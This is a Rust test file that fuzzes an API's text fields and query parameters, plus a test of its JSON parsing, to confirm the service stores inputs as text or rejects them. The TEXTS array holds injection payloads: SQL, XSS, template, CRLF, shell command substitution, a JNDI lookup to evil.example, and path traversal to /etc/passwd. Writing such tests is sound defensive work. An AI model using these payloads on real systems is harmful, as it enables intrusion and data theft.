//! Every text field of the API is sent what databases, templates, loggers, shells and browsers have stumbled over.

use reqwest::Method;
use serde_json::{Value, json};

use super::document::Api;
use crate::harness::{send, spawn, spawn_with};
use aisle::platform::config::AbuseLimits;

const TEXTS: [&str; 12] = [
    "'; DROP TABLE app_user; --",
    "\" OR \"\"=\"",
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "{{7*7}}${7*7}#{7*7}<%= 7*7 %>",
    "${jndi:ldap://evil.example/x}",
    "$(touch /tmp/x)`id`|id",
    "a\r\nX-Evil: 1\r\n\r\n<b>",
    "a\u{202e}txt.exe\u{2066}\u{200b}",
    "\u{1f3ad}\u{1f468}\u{200d}\u{1f469}\u{200d}\u{1f467}",
    "%s%n%x%00../../etc/passwd",
    "a\0b",
];

/// What the answer says under this name, anywhere.
fn said<'a>(answer: &'a Value, name: &str, found: &mut Vec<&'a str>) {
    match answer {
        Value::Object(fields) => {
            for (field, value) in fields {
                if let Some(text) = value.as_str().filter(|_| field == name) {
                    found.push(text);
                }
                said(value, name, found);
            }
        }
        Value::Array(items) => items.iter().for_each(|item| said(item, name, found)),
        Value::Null | Value::Bool(_) | Value::Number(_) | Value::String(_) => {}
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn every_text_field_takes_text_as_text_or_refuses_it() {
    let server = spawn_with(|config| config.abuse_limits = AbuseLimits::Observe).await;
    let api = Api::of(&server).await;
    let (mut sent, mut back) = (0, 0);
    for operation in api.operations() {
        let Some(schema) = &operation.body else { continue };
        if operation.pattern.ends_with("/auth/logout") {
            continue;
        }
        for field in api.texts(schema) {
            for text in TEXTS {
                let body = api.with(schema, &field, &json!(text));
                let request = server.request(operation.method.clone(), &operation.path).bearer_auth(&server.admin);
                let answer = send(request.json(&body)).await;
                let at = format!("{} {} {field} = {text:?}: {}", operation.method, operation.pattern, answer.text);
                assert!(answer.status.is_success() || answer.status.is_client_error(), "{} {at}", answer.status);
                assert!(!answer.headers.contains_key("x-evil"), "{at}");
                assert!(text != "a\0b" || answer.status.is_client_error(), "{at}");
                sent += 1;
                let mut found = Vec::new();
                if answer.status.is_success() {
                    said(&answer.body, field.rsplit('/').next().unwrap(), &mut found);
                }
                if !found.is_empty() {
                    // What is kept trimmed is the same text still.
                    assert!(found.iter().any(|found| *found == text || *found == text.trim()), "{at}");
                    back += 1;
                }
            }
        }
    }
    println!("{sent} texts were sent, {back} of them came back as they were");
    assert!(sent > 300 && back > 60, "{sent} sent, {back} came back");
    // Nothing of it was carried out.
    let users: i64 = sqlx::query_scalar("SELECT count(*) FROM app_user").fetch_one(&server.db).await.unwrap();
    assert!(users >= 1);
    server.admin(Method::GET, "/me", &Value::Null).await.expect(200);
}

#[tokio::test(flavor = "multi_thread")]
async fn every_query_takes_text_as_text_or_refuses_it() {
    let server = spawn().await;
    let api = Api::of(&server).await;
    let mut sent = 0;
    for mut operation in api.operations().into_iter().filter(|operation| operation.method == Method::GET) {
        // One that nobody reads; all the others are the operation's own.
        operation.queries.push("x".to_owned());
        for name in &operation.queries {
            for text in TEXTS {
                let request = server.request(Method::GET, &operation.path).bearer_auth(&server.admin);
                let answer = send(request.query(&[(name, text)])).await;
                assert!(!answer.status.is_server_error(), "{} {name}={text:?}: {}", operation.pattern, answer.text);
                assert!(!answer.headers.contains_key("x-evil"));
                sent += 1;
            }
        }
    }
    assert!(sent > 1_000, "only {sent} queries were tried");
}

#[tokio::test(flavor = "multi_thread")]
async fn json_that_is_deep_wide_or_twice_is_an_answer_too() {
    let server = spawn().await;
    let login = |body: String| {
        let request = server.request(Method::POST, "/auth/login").header("content-type", "application/json");
        send(request.body(body))
    };
    for open in ["[", "{\"a\":"] {
        login(open.repeat(10_000)).await.refused(400, "malformed_request");
    }
    let deep = format!("{{\"email\":{}{}}}", "[".repeat(5_000), "]".repeat(5_000));
    login(deep).await.refused(400, "malformed_request");
    let wide =
        format!("{{{}\"email\": \"a@b.c\"}}", (0..4_000).map(|field| format!("\"f{field}\":0,")).collect::<String>());
    login(wide).await.refused(422, "validation_failed");
    login(format!("{{\"email\": {}}}", "9".repeat(50_000))).await;
    for spoilt in ["\u{feff}{}", "{\"email\": \"\\ud800\"}", "{'email': 1}", "{\"email\": NaN}", "{} {}", "", "null"] {
        let answer = login(spoilt.to_owned()).await;
        assert!(answer.status.is_client_error(), "{spoilt:?}: {}", answer.text);
    }
    let request = server.request(Method::POST, "/auth/login").header("content-type", "application/json");
    send(request.body(vec![b'{', b'"', 0xc0, 0xaf, b'"', b':', b'1', b'}'])).await.refused(400, "malformed_request");
    // Of a field that is there twice, a reader takes the first and another the last: nobody is to sign in by that.
    let twice = login("{\"email\": \"a@b.c\", \"email\": \"d@e.f\", \"password\": \"x\"}".to_owned()).await;
    assert!(twice.status.is_client_error(), "{}", twice.text);
}
